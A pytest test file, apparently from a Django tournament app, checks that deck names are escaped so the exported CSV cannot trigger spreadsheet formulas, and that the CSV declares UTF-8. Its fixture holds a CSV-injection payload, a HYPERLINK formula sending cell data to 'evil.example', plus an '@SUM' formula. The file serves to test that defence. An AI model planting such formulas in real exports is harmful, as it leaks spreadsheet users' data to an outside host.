"""Issue 18: the tournament CSV is safe to open in a spreadsheet (a deck's name is another
player's text: no cell starts a formula) and says its charset."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from config.celery import app
from decks.services import deck_update
from tests.matches.decks import playable_deck

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def eager():
    previous = app.conf.task_always_eager
    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = previous


def test_a_deck_named_like_a_formula_is_text_in_the_csv(
    owner, stranger, eager, django_capture_on_commit_callbacks
):
    theirs = playable_deck(stranger, "Торговцы")
    deck_update(deck=theirs, name=EVIL)
    mine = playable_deck(owner, "Баланс")
    deck_update(deck=mine, name="@SUM(1)")
    api = APIClient()
    api.force_authenticate(owner)
    body = {
        "name": "Кубок",
        "format": "round_robin",
        "games_per_pairing": 2,
        "agents": "random",
        "decks": [mine.pk, theirs.pk],
    }
    with django_capture_on_commit_callbacks(execute=True):
        created = api.post("/api/tournaments/", body, format="json")
    assert created.status_code == 201, created.json()
    exported = api.get(f"/api/tournaments/{created.json()['id']}/export/csv/")
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    assert exported.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8 (issue 36)
    (row,) = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
    names = {row["a_name"], row["b_name"]}
    assert names == {"'@SUM(1) v2", f"'{EVIL} v2"}
    assert row["games"] == "2"
